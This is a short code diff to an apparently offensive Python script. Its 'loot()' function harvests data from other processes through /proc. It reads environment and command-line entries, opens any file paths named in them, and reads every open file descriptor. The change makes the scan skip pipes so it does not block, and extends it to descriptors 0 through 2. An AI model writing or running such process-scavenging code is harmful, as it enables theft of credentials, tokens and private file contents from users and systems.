@@ -13,6 +13,8 @@ import sys
 
 
 def readable(path):
+    if not os.path.isfile(path):  # a pipe would wait for ever
+        return ""
     try:
         with open(path, encoding="utf-8", errors="replace") as stream:
             return stream.read(4_000_000)
@@ -33,7 +35,7 @@ def loot():
             for word in readable(f"/proc/{process}/{part}").split("\0"):
                 yield readable(word.rpartition("=")[2])
         for number in range(64):
-            yield readable(f"/proc/{process}/fd/{number}") if number > 2 else ""
+            yield readable(f"/proc/{process}/fd/{number}")
 
 
 def candidates():
